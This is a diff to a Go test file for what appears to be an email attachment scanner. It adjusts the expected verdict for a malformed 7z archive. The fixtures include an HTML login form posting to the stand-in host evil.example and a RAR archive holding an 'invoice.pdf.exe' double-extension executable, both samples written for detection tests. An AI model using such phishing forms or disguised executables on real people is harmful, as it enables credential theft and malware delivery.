@@ -97,7 +97,9 @@ func TestScanDetection(t *testing.T) {
 		{"html form attachment", mimetest.Message("s", "x", att("login.html", "text/html", []byte(`<html><body><form action="https://evil.example/"><input name=p></form></body></html>`))), []string{"html-active@2"}},
 		{"inline html without attachment is not judged", []byte("Content-Type: text/html\r\n\r\n<html><script>x()</script></html>\r\n"), nil},
 		{"7z", mimetest.Message("s", "x", att("a.7z", "", sevenZip(false))), []string{"unsupported-archive@2"}},
-		{"7z encrypted", mimetest.Message("s", "x", att("a.7z", "", sevenZip(true))), []string{"encrypted@2", "unsupported-archive@2"}},
+		// A header this reader cannot parse is content not inspected
+		// (real encrypted 7z archives: TestSevenZipNotInspected).
+		{"7z broken header naming 7zAES", mimetest.Message("s", "x", att("a.7z", "", sevenZip(true))), []string{"unsupported-archive@2"}},
 		{"rar corrupt", mimetest.Message("s", "x", att("a.rar", "", []byte("Rar!\x1a\x07\x01\x00rest"))), []string{"malformed@2"}},
 		{"rar", mimetest.Message("s", "x", att("a.rar", "", mimetest.RAR5(mimetest.ZipEntry{Name: "docs/invoice.pdf.exe", Data: pe}, mimetest.ZipEntry{Name: "b.txt", Data: []byte("hi")}))),
 			[]string{"dangerous-extension@2/a.rar:docs/invoice.pdf.exe", "double-extension@2/a.rar:docs/invoice.pdf.exe", "executable@2/a.rar:docs/invoice.pdf.exe"}},
